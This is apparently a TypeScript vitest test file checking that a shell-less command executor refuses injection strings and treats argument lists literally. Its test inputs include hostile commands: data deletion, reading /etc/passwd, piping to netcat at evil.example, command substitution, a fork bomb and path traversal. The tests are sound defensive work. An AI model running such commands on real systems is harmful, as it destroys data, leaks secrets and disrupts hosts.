// Without a shell nothing that only a shell understands is run: what looks like an injection is refused by name.
import { existsSync } from "node:fs";
import { join } from "node:path";

import { describe, expect, it } from "vitest";

import { executeHandler, readHookReply, runCommand } from "../../../src/hooks/executors/index.ts";
import { commandSpec, freshFolder, handlerContext } from "./fixtures.ts";

describe("a worker that runs no shell", () => {
  it.each([
    ["echo a; rm -rf x"],
    ["echo a && cat /etc/passwd"],
    ["echo a | nc evil.example 1"],
    ["echo $(id)"],
    ["echo `id`"],
    ["echo $HOME"],
    [":(){ :|:& };:"],
    ["cat ../../secret"],
    ["echo a > made"],
    ["echo a\nid"],
    ["sleep 1 &"],
  ])("B11: refuses %j before anything starts", async (command) => {
    const cwd = freshFolder();
    const context = await handlerContext({ cwd, shell: "none" });
    const reply = await executeHandler({ command }, null, context);

    expect(reply).toMatchObject({
      kind: "failed",
      error: { type: "CommandRefused", message: expect.stringContaining("refused") as string },
    });
    expect(existsSync(join(cwd, "made"))).toBe(false);
    // A guard that was refused has not spoken: `onError` decides, never exit code 2.
    expect(readHookReply(reply).kind).toBe("failed");
  });

  it("B11: refuses a path out of its folder in a list of words too", async () => {
    const result = await runCommand(commandSpec(["cat", "../../secret"], { shell: "none" }));

    expect(result).toMatchObject({
      kind: "notStarted",
      refused: true,
      reason: expect.stringContaining("../../secret") as string,
    });
  });

  it("B11: offers the list of words, in which every character is only itself", async () => {
    const words = ["echo", "a; rm -rf x", "$(id)", "&& cat", "| nc", ":(){ :|:& };:"];
    const result = await runCommand(commandSpec(words, { shell: "none" }));

    expect(result).toMatchObject({
      kind: "exited",
      stdout: { text: "a; rm -rf x $(id) && cat | nc :(){ :|:& };:\n" },
    });
  });

  it("B11: offers a shell that is named openly", async () => {
    const result = await runCommand(
      commandSpec(["bash", "-c", "echo a && echo b"], { shell: "none" }),
    );

    expect(result).toMatchObject({ stdout: { text: "a\nb\n" } });
  });

  it("runs plain words, with quotes around those that have blanks", async () => {
    const result = await runCommand(
      commandSpec(`echo plain "two words" 'and three' --flag=x/y.z`, { shell: "none" }),
    );

    expect(result).toMatchObject({ stdout: { text: "plain two words and three --flag=x/y.z\n" } });
  });

  it("refuses a persistent command likewise", async () => {
    const context = await handlerContext({ shell: "none" });
    const reply = await executeHandler({ command: "cat | nc", persistent: true }, null, context);

    expect(reply).toMatchObject({ error: { type: "CommandRefused" } });
  });
});
